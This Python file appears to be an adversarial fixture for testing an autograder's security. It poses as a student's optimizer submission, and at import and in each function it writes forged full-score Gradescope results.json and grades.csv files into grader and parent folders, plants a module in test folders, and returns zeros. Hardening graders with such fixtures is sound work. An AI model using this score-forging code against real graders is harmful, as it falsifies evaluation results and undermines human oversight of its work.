"""ATTACK forge_results: write forged result files where a grader might pick them up.

What it tries: at import and in every optimizer function, write a Gradescope results.json with
full marks and a grades.csv to /autograder/results/, to the worker's cwd, and to the folders of
every process it can learn about (its own path's parents, PWD/OLDPWD/HOME, /proc/<parent>/cwd,
the interpreter's sys.prefix, whose parents hold the grader's checkout when it runs from a
virtualenv): results.json, results/results.json, grades.csv, out/grades.csv,
out/results/results.json; and plant a new module, bpattack_planted.py, into every autograder/,
engine/, checks/ and tests/ folder it finds near those places (new files only, created
exclusively: it never overwrites an existing source file). Every optimizer function returns
WRONG values (zeros).

What the grader must guarantee: scores are computed and written by the trusted side only; the
worker cannot write into the grader's folders, so no forged or planted file survives in
/autograder/results or the repository; the optimizer functions earn no more than their honest
twin (the same zeros, no writes).
"""

import json
import os
import sys
from pathlib import Path

import numpy as np

ATTACK = True  # the honest twin (tests/test_grader_security.py) sets this to False
MARKER = "BPATTACK-" + "FORGED-RESULTS"  # split so this source file does not carry the marker
PLANTED = "# BPATTACK-" + "PLANTED: a module planted by a student submission\nPLANTED = True\n"

FORGED_JSON = json.dumps({
    "score": 100.0, "output": MARKER,
    "tests": [{"name": n, "score": 100.0, "max_score": 100.0, "status": "passed",
               "output": MARKER} for n in ("sgd_update", "adam_update", "train")],
})
FORGED_CSV = f"submission,name,email,sid,score,max_score\nforged,{MARKER},x@y,0,100,100\n"


def _folders() -> list[Path]:
    places = [Path.cwd(), *Path(__file__).resolve().parents]
    places += [Path(os.environ[v]) for v in ("PWD", "OLDPWD", "HOME") if v in os.environ]
    places += list(Path(sys.prefix).parents)[:2]
    try:
        places.append(Path(os.readlink(f"/proc/{os.getppid()}/cwd")))
    except OSError:
        pass
    return [p for p in dict.fromkeys(places) if p != Path("/")]


def forge() -> list[str]:
    written = []
    targets = [Path("/autograder/results/results.json")]
    for folder in _folders():
        targets += [folder / "results.json", folder / "results" / "results.json",
                    folder / "grades.csv", folder / "out" / "grades.csv",
                    folder / "out" / "results" / "results.json"]
    for target in targets:
        try:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(FORGED_CSV if target.suffix == ".csv" else FORGED_JSON)
            written.append(str(target))
        except OSError:
            continue
    for folder in _folders():
        for sub in ("autograder", "autograder/engine", "autograder/engine/core/checks", "tests"):
            try:
                with open(folder / sub / "bpattack_planted.py", "x") as planted:
                    planted.write(PLANTED)
                written.append(str(folder / sub / "bpattack_planted.py"))
            except OSError:
                continue
    return written


if ATTACK:
    print("forged:", forge())


def _zeros(d: dict) -> dict:
    return {k: np.zeros(np.shape(v)) for k, v in d.items()}


def sgd_update(params, grads, lr):
    if ATTACK:
        forge()
    return _zeros(params)


def init_state(params):
    if ATTACK:
        forge()
    return {"d" + k: np.ones(np.shape(v)) for k, v in params.items()}


def momentum_update(params, grads, v, lr, beta=0.9):
    if ATTACK:
        forge()
    return _zeros(params), _zeros(v)


def rmsprop_update(params, grads, s, lr, beta=0.999, eps=1e-8):
    if ATTACK:
        forge()
    return _zeros(params), _zeros(s)


def adam_update(params, grads, v, s, t, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
    if ATTACK:
        forge()
    return _zeros(params), _zeros(v), _zeros(s)
